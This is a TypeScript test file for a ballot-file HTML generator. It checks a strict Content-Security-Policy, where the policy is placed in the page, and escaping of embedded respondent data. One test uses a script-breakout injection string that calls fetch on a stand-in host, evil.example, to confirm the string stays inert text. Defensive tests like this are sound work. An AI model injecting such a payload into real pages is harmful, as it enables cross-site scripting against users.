import { createHash } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { ballotFileHtml, ballotFilePolicy } from '../../../src/main/services/ballotFiles';
import {
  BALLOT_FILE_FORMAT,
  type BallotFileData,
} from '../../../src/shared/domain/translation/ballotFileData';

const TEMPLATE = `<!doctype html><html><head><title>t</title><script type="module" crossorigin>console.log(1)</script><style rel="stylesheet" crossorigin>p{color:red}</style></head><body><main id="app"></main></body></html>`;
const sha = (text: string) => `'sha256-${createHash('sha256').update(text).digest('base64')}'`;

const data = (overrides: Partial<BallotFileData> = {}): BallotFileData => ({
  format: BALLOT_FILE_FORMAT,
  version: 2,
  workspaceId: 'ws-1',
  roundId: 'dept-round-1',
  token: 'tok_3f9a2c7e1b',
  organisation: 'Northwind Ltd',
  department: 'Sales',
  respondent: 'Łukasz Wróblewski',
  question: 'Which of our priorities matters most to your team?',
  items: [
    { id: 'p1', title: 'Expand into the Nordics', description: '' },
    { id: 'p2', title: '客户满意度提升计划', description: 'Lift NPS by 10' },
  ],
  questions: [],
  ...overrides,
});

/** The data block as the page reads it. */
function embedded(html: string): unknown {
  const match = /<script type="application\/json" id="ballot-data">([\s\S]*?)<\/script>/.exec(html);
  return JSON.parse(match![1]!);
}

describe('a ballot file', () => {
  it('allows exactly its own inlined script and style, and no connection of any kind', () => {
    const policy = ballotFilePolicy(TEMPLATE);
    expect(policy).toContain(`script-src ${sha('console.log(1)')}`);
    expect(policy).toContain(`style-src ${sha('p{color:red}')}`);
    expect(policy).toContain("connect-src 'none'");
    expect(policy).toContain("default-src 'none'");
    expect(policy).not.toMatch(/unsafe-inline|https?:/);
  });

  it('puts the policy first in <head>, before any script, and carries the respondent’s data', () => {
    const html = ballotFileHtml(TEMPLATE, data());
    expect(html.indexOf('Content-Security-Policy')).toBeLessThan(html.indexOf('<script'));
    expect(html.indexOf('Content-Security-Policy')).toBeGreaterThan(html.indexOf('<head>'));
    expect(embedded(html)).toEqual(data());
  });

  it('a title that tries to end the data block stays text inside it', () => {
    const hostile = '</script><script>fetch("https://evil.example")</script>';
    const html = ballotFileHtml(
      TEMPLATE,
      data({ items: [{ id: 'p1', title: hostile, description: '' }, ...data().items.slice(1)] }),
    );
    expect(html).not.toContain(hostile);
    expect((embedded(html) as BallotFileData).items[0]!.title).toBe(hostile);
    expect(html.match(/<script/g)).toHaveLength(2);
  });

  it('refuses data it would not be able to read back, and a page that was not built as one file', () => {
    expect(() => ballotFileHtml(TEMPLATE, data({ token: 'short' }))).toThrow();
    expect(() => ballotFileHtml(TEMPLATE, data({ items: data().items.slice(0, 1) }))).toThrow();
    expect(() => ballotFileHtml('<html><head></head><body></body></html>', data())).toThrow(/one file/);
  });
});
